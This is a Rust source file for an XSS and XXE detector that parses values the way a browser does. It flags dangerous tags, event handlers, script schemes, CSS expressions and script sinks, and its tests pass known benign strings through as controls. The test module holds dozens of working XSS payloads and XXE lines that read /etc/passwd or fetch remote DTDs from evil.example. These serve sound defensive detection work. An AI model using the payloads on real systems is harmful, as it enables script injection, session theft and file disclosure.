//! Cross-site scripting: would a value, echoed into an HTML page, run script?
//!
//! Read as a browser's tokenizer reads it, not matched against a list of payloads:
//! tags are parsed (name, attribute names, attribute values, entity-decoded as the
//! browser does) and judged by what can execute: elements that load or run code
//! (`script`, `iframe`, `svg`, `style`, ...), event-handler attributes, script URL
//! schemes (after dropping the blanks and control bytes browsers skip), CSS
//! `expression()`. Outside a tag the same handler and scheme checks find an injection
//! into an existing attribute (`" onerror=alert(1) x="`), and a call to a script sink
//! (`alert(`, `document.cookie`) finds one into a script block.

use crate::decode::{css_unescape, html_decode};
use crate::profile::{Profile, class};
use aho_corasick::AhoCorasick;
use std::sync::LazyLock;

/// Schemes and sinks in one automaton: one pass per value instead of one search per
/// needle.
static NEEDLES: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::new(SCHEMES.iter().chain(SINKS.iter())).expect("static patterns")
});

/// The same needles, ASCII case-insensitive: for values with nothing to decode or
/// squeeze, searched in place instead of on a lower-cased copy.
static NEEDLES_CI: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(SCHEMES.iter().chain(SINKS.iter()))
        .expect("static patterns")
});

/// A detected XSS.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct XssMatch {
    /// `tag`, `event_handler`, `script_uri`, `css_expression`, `script_sink`,
    /// `data_binding` or `xml_entity`.
    pub reason: &'static str,
}

const MAX_VALUE: usize = 8 * 1024;

/// Elements that run or load code, or switch the parser into a mode that does.
const CODE_TAGS: &[&str] = &[
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "meta",
    "link",
    "style",
    "base",
    "svg",
    "math",
    "xml",
    "import",
    "bgsound",
    "layer",
    "ilayer",
    "isindex",
    "template",
    "portal",
    "handler",
    "animate",
    "set",
    "xss",
    "vmlframe",
    // XML Events: wires an event of another element to a handler.
    "listener",
    // A processing instruction that has the browser load and run a stylesheet (XSLT).
    "xml-stylesheet",
];

/// Script sinks: seeing one called in a parameter means script text was sent.
const SINKS: &[&str] = &[
    "alert(",
    "alert`",
    "prompt(",
    "prompt`",
    "confirm(",
    "confirm`",
    "eval(",
    "document.cookie",
    "document.write",
    "document.domain",
    "fromcharcode(",
    ".innerhtml",
    "window.location",
    "document.location",
    "settimeout(",
    "setinterval(",
    "expression(",
    "msgbox(",
    "-moz-binding",
    "constructor(",
    // A sink called through Function.prototype, and an element made by script.
    "eval.call(",
    "eval.apply(",
    "eval.bind(",
    "alert.call(",
    "alert.apply(",
    "alert.bind(",
    "prompt.call(",
    "prompt.apply(",
    "prompt.bind(",
    "confirm.call(",
    "confirm.apply(",
    "confirm.bind(",
    "createelement(",
];

const SCHEMES: &[&str] = &[
    "javascript:",
    "vbscript:",
    "livescript:",
    "mocha:",
    "data:text/html",
];

/// Judge one decoded value.
pub fn detect(value: &[u8]) -> Option<XssMatch> {
    detect_profiled(value, Profile::of(value))
}

/// [`detect`] with the value's byte classes already known. A value longer than
/// [`MAX_VALUE`] is judged in windows of that size overlapping by 1 KiB
/// ([`crate::window`]), not on its prefix only.
pub(crate) fn detect_profiled(value: &[u8], p: Profile) -> Option<XssMatch> {
    detect_prefix(value, p).or_else(|| {
        crate::window::rest(value, MAX_VALUE, MAX_VALUE - 1024)
            .find_map(|w| detect_prefix(w, Profile::of(w)))
    })
}

/// The judgement of a value's first [`MAX_VALUE`] bytes.
fn detect_prefix(value: &[u8], p: Profile) -> Option<XssMatch> {
    let p = p.cut(value, MAX_VALUE);
    let v = &value[..value.len().min(MAX_VALUE)];
    // What [`marked`] tests.
    if !p.any(class::XSS_MARK) {
        return None;
    }
    let hit = |reason| Some(XssMatch { reason });
    if jsfuck(v) {
        return hit("script_sink");
    }
    // No markup and no character reference (most URLs and text): the value is its own
    // decoded form; with no blank or control byte either, it is its own squeezed form
    // too, up to case. Same verdicts as below, without the copies.
    if !p.any(class::XSS_DECODE) && memchr::memchr(b'\\', v).is_none() {
        if let Some(m) = NEEDLES_CI.find_iter(v).find(|m| at_boundary(v, m)) {
            return hit(needle_reason(m));
        }
        if js_call(v) {
            return hit("script_sink");
        }
        return handler_outside_tag(v).then_some(XssMatch {
            reason: "event_handler",
        });
    }
    detect_marked(v)
}

/// [`detect`] without the shortcut for values with nothing to decode: the reference
/// it must agree with.
#[doc(hidden)]
pub fn detect_exhaustive(value: &[u8]) -> Option<XssMatch> {
    let whole = |value: &[u8]| {
        let v = &value[..value.len().min(MAX_VALUE)];
        if !marked(v) {
            return None;
        }
        if jsfuck(v) {
            return Some(XssMatch {
                reason: "script_sink",
            });
        }
        detect_marked(v)
    };
    whole(value).or_else(|| crate::window::rest(value, MAX_VALUE, MAX_VALUE - 1024).find_map(whole))
}

/// Every XSS needs markup, a scheme's `:`, a handler's `=` or a call's `(`/`` ` ``.
fn marked(v: &[u8]) -> bool {
    v.iter()
        .any(|&c| matches!(c, b'<' | b':' | b'=' | b'(' | b'`' | b'&' | b'.'))
}

/// A scheme runs only where a URL starts: at the value's start or after a quote, `=`,
/// `(`... (`href="javascript:...`), not inside a word (`Learn javascript: the basics`,
/// `metadata:text/html`, blanks squeezed out). Sinks count anywhere, but `eval()`
/// called with nothing and `constructor(` not reached as a member.
fn at_boundary(hay: &[u8], m: &aho_corasick::Match) -> bool {
    let i = m.pattern().as_usize();
    let before = m.start().checked_sub(1).map(|b| hay[b]);
    if i < SCHEMES.len() {
        return before.is_none_or(|b| !b.is_ascii_alphanumeric());
    }
    match SINKS[i - SCHEMES.len()] {
        // Reached as a member (`[].constructor.constructor('alert(1)')()`): a class's
        // own `constructor(){...}` and prose's "the float constructor (for example"
        // call nothing.
        "constructor(" => matches!(before, Some(b'.' | b']')),
        // Called with nothing to run: prose names the function so ("passed to eval()").
        "eval(" => hay.get(m.end()) != Some(&b')'),
        _ => true,
    }
}

fn needle_reason(m: aho_corasick::Match) -> &'static str {
    if m.pattern().as_usize() < SCHEMES.len() {
        "script_uri"
    } else {
        "script_sink"
    }
}

fn detect_marked(v: &[u8]) -> Option<XssMatch> {
    let hit = |reason| Some(XssMatch { reason });
    if let Some(r) = tags(v) {
        return hit(r);
    }
    let decoded = html_decode(v);
    if let Some(r) = sinks(&decoded) {
        return hit(r);
    }
    if handler_outside_tag(&decoded) {
        return hit("event_handler");
    }
    // Inside a script, escapes spell names too (`al\u0065rt(1)`, `top['al\x65rt']`),
    // and inside a style CSS's (`x:expression\28write(1)\29`, a style attribute of a
    // tag IE read where others see none).
    if memchr::memchr(b'\\', &decoded).is_some() {
        if let Some(r) = sinks(&crate::decode::backslash_unescape(&decoded)) {
            return hit(r);
        }
        let css = css_unescape(&decoded).to_ascii_lowercase();
        if memchr::memmem::find(&css, b"expression(").is_some() {
            return hit("css_expression");
        }
    }
    // A filter that strips tags (PHP's `strip_tags`) joins what they split:
    // `"o<x>nmouseover=alert<x>(1)//` reaches the page as `"onmouseover=alert(1)//`.
    if let Some(joined) = without_tags(&decoded) {
        if let Some(r) = sinks(&joined) {
            return hit(r);
        }
        if handler_calls_sink(&joined) {
            return hit("event_handler");
        }
    }
    None
}

/// `onxxx=alert(1)`, `onfocus="prompt``"`: a handler attribute, written anywhere,
/// whose code opens with a call of a sink. Stricter than [`handler_outside_tag`], for
/// text that tags were taken out of (`online=great (really)` there is prose).
fn handler_calls_sink(v: &[u8]) -> bool {
    let lower = v.to_ascii_lowercase();
    memchr::memmem::find_iter(&lower, b"on").any(|at| {
        let name = lower[at + 2..]
            .iter()
            .take_while(|c| c.is_ascii_lowercase())
            .count();
        let rest = lower[at + 2 + name..].trim_ascii_start();
        let Some(code) = rest.strip_prefix(b"=") else {
            return false;
        };
        let code = code.trim_ascii_start();
        let code = code
            .strip_prefix(b"\"")
            .or_else(|| code.strip_prefix(b"'"))
            .unwrap_or(code);
        name >= 3 && opens_with_sink(code, b"(`")
    })
}

/// Does `code` open with a dialog or evaluator's name (`alert`, `prompt`, `confirm`,
/// `eval`, `print`) followed by one of `then`?
fn opens_with_sink(code: &[u8], then: &[u8]) -> bool {
    ["alert", "prompt", "confirm", "eval", "print"]
        .iter()
        .any(|s| {
            code.starts_with(s.as_bytes()) && code.get(s.len()).is_some_and(|c| then.contains(c))
        })
}

/// `v` with every tag (`<x>`, `</b>`, `<br/>`: `<`, a letter or `/`, up to 64 bytes
/// to its `>`) taken out, or `None` when none sits inside a word, where taking it out
/// changes what the word spells.
fn without_tags(v: &[u8]) -> Option<Vec<u8>> {
    let tag_len = |i: usize| -> Option<usize> {
        let rest = &v[i..v.len().min(i + 64)];
        if !rest
            .get(1)
            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'/')
        {
            return None;
        }
        let end = memchr::memchr(b'>', rest)?;
        (!rest[1..end].contains(&b'<')).then_some(end + 1)
    };
    let word = |c: Option<&u8>| c.is_some_and(|c| c.is_ascii_alphanumeric());
    // (Between two letters or digits: highlighted code puts tags between tokens, as in
    // `setTimeout</span>(`, a filter bypass inside a name, as in `o<x>nfocus`.)
    let splits = memchr::memchr_iter(b'<', v)
        .any(|i| tag_len(i).is_some_and(|n| i > 0 && word(v.get(i - 1)) && word(v.get(i + n))));
    if !splits {
        return None;
    }
    let mut out = Vec::with_capacity(v.len());
    let mut i = 0;
    while i < v.len() {
        match (v[i] == b'<').then(|| tag_len(i)).flatten() {
            Some(n) => i += n,
            None => {
                out.push(v[i]);
                i += 1;
            }
        }
    }
    Some(out)
}

/// Schemes and sinks in decoded text: the needles with blanks and control bytes
/// dropped (browsers skip them inside a scheme, `java&#9;script:`), the script-context
/// calls with them kept (`level (alert)` is prose where `f(alert)` is a call).
fn sinks(decoded: &[u8]) -> Option<&'static str> {
    let squeezed: Vec<u8> = decoded
        .iter()
        .filter(|&&c| c > b' ')
        .map(u8::to_ascii_lowercase)
        .collect();
    if let Some(m) = NEEDLES
        .find_iter(&squeezed)
        .find(|m| at_boundary(&squeezed, m))
    {
        return Some(needle_reason(m));
    }
    js_call(decoded).then_some("script_sink")
}

/// Names a script context reaches sinks by without spelling a call to one: a global's
/// member called by a computed name, and a sink handed around as a value.
const JS_NEEDLES: &[&str] = &[
    "top[",
    "window[",
    "self[",
    "parent[",
    "frames[",
    "globalthis[",
    "this[",
    "alert)",
    "prompt)",
    "confirm)",
    "eval)",
    "=alert,",
    "=prompt,",
    "=confirm,",
    "=eval,",
    "=alert;",
    "=prompt;",
    "=confirm;",
    "=eval;",
];

static JS_CI: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(JS_NEEDLES)
        .expect("static patterns")
});

/// `top["al"+"ert"](1)`, `self[x](1)`: a global indexed, then called. `(alert)(1)`,
/// `[1].find(alert)`: a sink in brackets called, or passed to a call. `a=alert,a(1)`: one
/// assigned, then called. Prose writes none of these (`desktop[1]`, `(alert) levels`).
fn js_call(v: &[u8]) -> bool {
    let ident = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$');
    JS_CI.find_iter(v).any(|m| {
        let (start, end) = (m.start(), m.end());
        let before = start.checked_sub(1).map(|i| v[i]);
        let rest = &v[end..];
        match v[start] {
            // A global's member by a computed name, then a call.
            b'[' | b'a'..=b'z' | b'A'..=b'Z' if v[end - 1] == b'[' => {
                !before.is_some_and(ident) && memchr::memmem::find(rest, b"](").is_some()
            }
            // `=alert;` and the name it was given called after it (`A=alert;A(1)`):
            // a statement apart, so the name is checked, not any call.
            b'=' if v[end - 1] == b';' => {
                let name_at = v[..start]
                    .iter()
                    .rposition(|&c| !ident(c))
                    .map_or(0, |i| i + 1);
                let name = &v[name_at..start];
                !name.is_empty()
                    && memchr::memmem::find_iter(rest, name).any(|i| {
                        rest.get(i + name.len()) == Some(&b'(') && !(i > 0 && ident(rest[i - 1]))
                    })
            }
            // `=alert,` and a call after it.
            b'=' => memchr::memchr(b'(', rest).is_some(),
            // `(alert)(`, `(prompt)`` ` (a tagged template calls it too), `(z=alert)(`
            // (AngularJS expressions), or `f(alert)` (not `f(prompt)`, `f(eval)`: code
            // names variables so, `input(prompt)`).
            c => {
                let passable = matches!(c, b'a' | b'A' | b'c' | b'C');
                let called = matches!(rest.first(), Some(b'(' | b'`'));
                (before == Some(b'=') && called)
                    || before == Some(b'(')
                        && (called
                            || passable
                                && start
                                    .checked_sub(2)
                                    .is_some_and(|i| ident(v[i]) || matches!(v[i], b')' | b']')))
            }
        }
    })
}

/// JSFuck: a script written with the six characters `[]()!+` only
/// (`(![]+[])[+!+[]]...` spells `alert` and calls it), which no text is made of.
fn jsfuck(v: &[u8]) -> bool {
    matches!(v.first(), Some(b'[' | b'(' | b'!' | b'+'))
        && v.len() >= 24
        && v.iter()
            .all(|c| matches!(c, b'[' | b']' | b'(' | b')' | b'!' | b'+'))
        && memchr::memmem::find(v, b"![]").is_some()
}

/// AngularJS's event directives (`ng-focus="..."`, `data-ng-click`, `x-ng-copy`): an
/// expression run on the event, the framework's own `on*` (client-side template
/// injection where a page runs AngularJS).
fn angular_handler(name: &[u8]) -> bool {
    let name = name
        .strip_prefix(b"data-")
        .or_else(|| name.strip_prefix(b"x-"))
        .unwrap_or(name);
    let Some(event) = name
        .strip_prefix(b"ng-")
        .or_else(|| name.strip_prefix(b"ng:"))
        .or_else(|| name.strip_prefix(b"ng_"))
    else {
        return false;
    };
    matches!(
        event,
        b"click"
            | b"dblclick"
            | b"focus"
            | b"blur"
            | b"change"
            | b"submit"
            | b"copy"
            | b"cut"
            | b"paste"
            | b"keydown"
            | b"keyup"
            | b"keypress"
            | b"mousedown"
            | b"mouseup"
            | b"mouseenter"
            | b"mouseleave"
            | b"mousemove"
            | b"mouseover"
            | b"init"
    )
}

fn is_name(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b':')
}

/// Walks every `<name ...>` and judges it; `None` when no tag is dangerous.
fn tags(v: &[u8]) -> Option<&'static str> {
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'<', &v[i..]) {
        let mut j = i + p + 1;
        i = j;
        if v.get(j) == Some(&b'!') && external_entity(&v[j + 1..]) {
            return Some("xml_entity");
        }
        // `</script>` closes a script block the attacker opened elsewhere; `<?import`.
        while j < v.len() && matches!(v[j], b'/' | b'?' | b'%') {
            j += 1;
        }
        let instruction = v[i..j].contains(&b'?');
        if !v.get(j).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        let ns = j;
        while j < v.len() && is_name(v[j]) {
            j += 1;
        }
        let name = v[ns..j].to_ascii_lowercase();
        // `x:script` is `script` in XHTML namespaces.
        let local = name.rsplit(|&c| c == b':').next().unwrap_or(&name);
        // `<?xml version="1.0"?>`, the declaration every XML body (SOAP, an XML API)
        // opens with, is no `<xml>` data island.
        if instruction && name == b"xml" {
            continue;
        }
        // `<?xml:namespace ... ns="urn:schemas-microsoft-com:time">`: binds a prefix to
        // an IE behaviour (HTML+TIME's elements set `innerHTML`).
        if CODE_TAGS.iter().any(|t| t.as_bytes() == local) || name == b"xml:namespace" {
            return Some("tag");
        }
        // An image's data URL renders as an image: no script runs in one (SVG's
        // included), whatever the document holds.
        let image = matches!(local, b"img" | b"image" | b"input" | b"source" | b"picture");
        if let Some(r) = attributes(v, j, image) {
            return Some(r);
        }
    }
    None
}

/// After `<!`: a markup declaration that makes an XML parser fetch or expand what the
/// sender chose (XXE): an entity declaration, or a document type whose definition is
/// fetched from a system identifier. Applications that parse XML from a parameter
/// resolve them unless told not to; a document type naming only a public identifier
/// (`<!DOCTYPE html PUBLIC ...>`, pasted HTML) is left alone.
fn external_entity(decl: &[u8]) -> bool {
    let word = |w: &[u8]| decl.starts_with(w) && decl.get(w.len()).is_some_and(|&c| c <= b' ');
    if word(b"ENTITY") {
        return true;
    }
    if !word(b"DOCTYPE") {
        return false;
    }
    let end = memchr::memchr2(b'>', b'[', decl).unwrap_or(decl.len());
    decl[..end].split(|&c| c <= b' ').any(|w| w == b"SYSTEM")
}

/// Reads the attributes of a tag from `i` to its `>` (or the end: a tag the
/// application closes is still a tag); `image`: the tag renders its URLs as images.
fn attributes(v: &[u8], mut i: usize, image: bool) -> Option<&'static str> {
    let n = v.len();
    loop {
        // Browsers separate attributes by blanks, `/`, and also by control bytes.
        while i < n && (v[i] <= b' ' || v[i] == b'/' || v[i] == b'"' || v[i] == b'\'') {
            i += 1;
        }
        if i >= n || v[i] == b'>' || v[i] == b'<' {
            return None;
        }
        let s = i;
        while i < n && v[i] > b' ' && !matches!(v[i], b'=' | b'>' | b'/') {
            i += 1;
        }
        let name = v[s..i].to_ascii_lowercase();
        while i < n && v[i] <= b' ' {
            i += 1;
        }
        let mut value: &[u8] = b"";
        if i < n && v[i] == b'=' {
            i += 1;
            while i < n && v[i] <= b' ' {
                i += 1;
            }
            if i < n && matches!(v[i], b'"' | b'\'' | b'`') {
                let q = v[i];
                let e = memchr::memchr(q, &v[i + 1..]).map_or(n, |p| i + 1 + p);
                value = &v[i + 1..e];
                i = (e + 1).min(n);
            } else {
                let s = i;
                while i < n && v[i] > b' ' && v[i] != b'>' {
                    i += 1;
                }
                value = &v[s..i];
            }
            if name.starts_with(b"on") && name.len() > 4 || angular_handler(&name) {
                return Some("event_handler");
            }
        }
        if !value.is_empty() {
            let decoded = html_decode(value);
            // The blanks and control bytes browsers skip inside a URL's scheme dropped.
            let dec: Vec<u8> = (decoded.iter())
                .filter(|&&c| c > b' ')
                .map(u8::to_ascii_lowercase)
                .collect();
            if NEEDLES
                .find_iter(&dec)
                .any(|m| m.pattern().as_usize() < SCHEMES.len())
            {
                return Some("script_uri");
            }
            // (`dec` starts so for every data URL: the browser drops the blanks too.)
            if !image && dec.starts_with(b"data:") && data_url_runs_script(&decoded) {
                return Some("script_uri");
            }
            if name == b"style" && css_runs_code(&dec) {
                return Some("css_expression");
            }
            // IE's data binding: the element renders the bound field as HTML.
            if name == b"dataformatas" && dec == b"html" {
                return Some("data_binding");
            }
        }
    }
}

/// A style that runs or loads code: IE's `expression()` and behaviours, Mozilla's XBL
/// bindings, `url(` (a script URL, an HTC). Read after CSS's own escapes and comments,
/// which split and spell names (`x:expression\28write(1)\29`, `exp/**/ression(`).
fn css_runs_code(lower: &[u8]) -> bool {
    const CODE: [&str; 5] = [
        "expression(",
        "behavior",
        "behaviour",
        "-moz-binding",
        "url(",
    ];
    let found = |v: &[u8]| {
        CODE.iter()
            .any(|s| memchr::memmem::find(v, s.as_bytes()).is_some())
    };
    found(lower)
        || (memchr::memchr2(b'\\', b'/', lower).is_some()
            && found(&css_unescape(lower).to_ascii_lowercase()))
}

/// A `data:` URL whose content, as the browser would render it, holds script: judged
/// as the document it carries (base64 or percent-encoded), whatever type it claims
/// (`data:application/x-x509-user-cert;base64,PHNjcmlwdD4...`). The URL as the
/// browser's URL parser reads it: tabs and line breaks dropped, leading blanks too.
fn data_url_runs_script(decoded: &[u8]) -> bool {
    let url: Vec<u8> = (decoded.iter().copied())
        .skip_while(|&c| c <= b' ')
        .filter(|&c| !matches!(c, b'\t' | b'\n' | b'\r'))
        .collect();
    if !url
        .get(..5)
        .is_some_and(|s| s.eq_ignore_ascii_case(b"data:"))
    {
        return false;
    }
    let url = &url[5..];
    let Some(comma) = memchr::memchr(b',', url) else {
        return false;
    };
    let (kind, payload) = (&url[..comma], &url[comma + 1..]);
    let content = if kind.to_ascii_lowercase().ends_with(b";base64") {
        use base64::Engine;
        use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
        // Browsers take base64 with or without its padding, and skip blanks in it.
        const LENIENT: GeneralPurpose = GeneralPurpose::new(
            &base64::alphabet::STANDARD,
            GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
        );
        let payload: Vec<u8> = payload.iter().copied().filter(|&c| c > b' ').collect();
        match LENIENT.decode(payload) {
            Ok(c) => c,
            Err(_) => return false,
        }
    } else {
        crate::decode::percent_decode(payload)
    };
    // A data URL inside a data URL is judged too, to a bounded depth: a value of nested
    // URLs costs a few passes, not one per level.
    thread_local!(static DEPTH: std::cell::Cell<u8> = const { std::cell::Cell::new(0) });
    let depth = DEPTH.with(|d| d.get());
    if depth >= 2 {
        return false;
    }
    DEPTH.with(|d| d.set(depth + 1));
    let found = detect(&content).is_some();
    DEPTH.with(|d| d.set(depth));
    found
}

/// `" onerror=...`, `x onload =`: an event handler written after a quote, blank or
/// slash, as an injection into an existing tag's attributes looks.
fn handler_outside_tag(v: &[u8]) -> bool {
    // A handler needs its `=`.
    if memchr::memchr(b'=', v).is_none() {
        return false;
    }
    let lower = v.to_ascii_lowercase();
    // The script context's way to call without parentheses: the window's error handler
    // set to a sink, then an exception thrown (`onerror=alert;throw 1`), anywhere.
    if memchr::memmem::find(&lower, b"throw").is_some()
        && memchr::memmem::find_iter(&lower, b"onerror=")
            .any(|i| opens_with_sink(&lower[i + 8..], b";,}\n"))
    {
        return true;
    }
    let mut from = 0;
    while let Some(p) = memchr::memmem::find(&lower[from..], b"on") {
        let at = from + p;
        from = at + 2;
        let before_ok = at > 0
            && matches!(
                lower[at - 1],
                b'"' | b'\'' | b'/' | b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b';'
            );
        if !before_ok {
            continue;
        }
        let mut j = at + 2;
        while j < lower.len() && lower[j].is_ascii_lowercase() {
            j += 1;
        }
        if j - at < 5 {
            continue;
        }
        while j < lower.len() && lower[j] <= b' ' {
            j += 1;
        }
        // A handler's value follows the `=`; prose (`on=`, `one = two`) rarely has a
        // quote or a call there.
        if lower.get(j) == Some(&b'=')
            && lower[j + 1..]
                .iter()
                .take(64)
                .any(|&c| matches!(c, b'(' | b'`' | b'"' | b'\'' | b':'))
        {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::detect;

    #[test]
    fn markup_and_contexts() {
        for a in [
            "<script>alert(1)</script>",
            "[].constructor.constructor('alert(1)')()",
            "';eval(atob('YWxlcnQoMSk='))//",
            "<img src=x onerror=alert(1)>",
            "<a href=\"java&#09;script:alert(1)\">x</a>",
            "\" onmouseover=\"alert(1)",
            "';alert(String.fromCharCode(88))//",
            "<div style=\"width: expression(alert(1))\">",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">",
            // a script context (BRUTELOGIC's JavaScript payloads)
            "(alert)(1)",
            "a=alert,a(1)",
            "A=alert;A(1)",
            "1;a=eval;b=alert;a(b(/c/.source));",
            "';a=eval;b=alert;a(b(15));//",
            "eval.call(this,unescape.call(this,location))",
            "with(document)getElementsByTagName('head')[0].appendChild(createElement('script')).src='//x.ws'",
            "[1].find(alert)",
            "top[\"al\"+\"ert\"](1)",
            "top[/al/.source+/ert/.source](1)",
            "al\\u0065rt(1)",
            // PortSwigger's cheat sheet: code point and octal escapes, `this[...]`,
            // an AngularJS assignment called
            "'-\\u{0061}lert(1)-'",
            "'-\\u{00000000000061}lert(1)-'",
            "';this['\\141\\154\\145\\162\\164']('\\130\\123\\123');//",
            "';this[/al/.source+/ert/.source](/XSS/.source);//",
            "<input id=x ng-focus=$event.composedPath()|orderBy:'(z=alert)(1)'>",
            "<input autofocus ng-focus=\"$event.composedPath()|orderBy:'[].constructor.from([1],alert)'\">",
            "<div data-ng-click=\"x\">",
            "top['al\\x65rt'](1)",
            "self[8680439..toString(30)](1)",
            "';WINDOW['ale'+'rt'](document.domain)//",
            // XSStrike's and dalfox's: a parenthesised sink called by a tagged
            // template, sinks called through `call`, `apply` and `bind`.
            "&lt;details\tontoggle=(prompt)``\rx>",
            "onload=confirm.call(null,1) class=dalfox ",
            "<datalist onload=alert.bind()(1) class=dalfox></datalist>",
            "\"onpointerout=prompt.apply(null,1) class=dalfox ",
            // a scheme where a URL starts
            "javascript:fetch('//x.example')",
            "x\" href=\"java\tscript:fetch(1)",
            " vbscript:msgbox",
            // XML that has its parser fetch or expand what the sender chose (XXE).
            "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
            "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
            "<!ENTITY % p SYSTEM \"http://evil.example/p\">%p;",
            "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?><r/>",
            // CSS escapes and comments spell `expression(`.
            "<p style=x:expression\\28write(1)\\29>",
            "<// style=x:expression\\28write(1)\\29>",
            "<p style=\"w:exp/**/ression(alert(1))\">",
            // A data URL judged by the document it carries, whatever type it claims.
            "<a href=\"data:application/x-x509-user-cert;&NewLine;base64&NewLine;,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<object data=\"data:application/xhtml+xml,%3Cscript%3Ealert(1)%3C/script%3E\">",
            // IE: data binding rendered as HTML, a behaviour bound to a namespace;
            // XML Events.
            "<span datasrc=#i datafld=c dataformatas=html></span>",
            "<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">",
            "<listener event=\"load\" handler=\"#y\" observer=\"x\"/>",
            // without parentheses: the error handler set to a sink, then a throw; JSFuck
            "onerror=alert;throw 1",
            "';onerror=alert;throw 1//",
            "{onerror=prompt}throw 1337",
            "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]",
            // split by tags a filter strips (brutelogic's `<x>` trick)
            "\"o<x>nmouseover=alert<x>(1)//",
            "\"autof<x>ocus o<x>nfocus=alert<x>(1)//",
        ] {
            assert!(detect(a.as_bytes()).is_some(), "{a}");
        }
        for b in [
            "a < b and c > d",
            "<b>bold</b>",
            "Tom & Jerry",
            "based on = experience",
            "http://example.com/?a=b",
            "me@example.com",
            "desktop[1](2)",
            "set the level (alert) for prices",
            "levels: (alert)",
            "a=alert,b",
            "this[0] is the first",
            "<div ng-app ng-controller=\"Main\" ng-model=\"name\">",
            "status=alert) (see log)",
            "level=alert;b(2)",
            "type=alert; see (notes)",
            "answer = input(prompt)",
            "see (prompt) `code`",
            "the levels (alert) ` and (prompt) `",
            "call(prompt.text)",
            "onerror=alert the admin; throw away the logs",
            "<p>Price <b>on</b>line=great (really)</p>",
            "<b>al</b>ert the admin (now)",
            "H<sub>2</sub>O and CO<sub>2</sub> (gases)",
            "<span class=\"hljs-built_in\">setTimeout</span>(<span class=\"hljs-number\">100</span>)",
            "on error = alert; throw",
            "[]+[]+(1)+!x",
            "!!!!!!!!!!!!!!!!!!!!!!!!!!!!",
            // a scheme's name inside a sentence or a word runs nothing
            "Learn javascript: the basics",
            "metadata:text/html is the header",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><p>hi</p>",
            "<!DOCTYPE html><p>SYSTEM requirements</p>",
            "<!-- ENTITY -->",
            // An XML body's declaration (nDPI's `ocs.pcap`: a form-less XML POST).
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<lgyrequest module=\"CM/VOD\"><param name=\"a\" value=\"\"/></lgyrequest>",
            "<?xml version",
            // Images as data URLs, styles without code, escapes in prose.
            "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg==\">",
            "<img src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Ccircle r='4'/%3E%3C/svg%3E\">",
            "<span style=\"color:red; font-family:'a\\62 c'\">x</span>",
            "<a href=\"data:\">data:</a>",
            // Prose about eval() and constructors calls neither.
            "Debug an expression executed via the eval() function.",
            "strings accepted by the float constructor (for example, '-2.3' or '1e10')",
            "class A { constructor(){ this.x = 1 } }",
        ] {
            assert!(detect(b.as_bytes()).is_none(), "{b}");
        }
    }
}
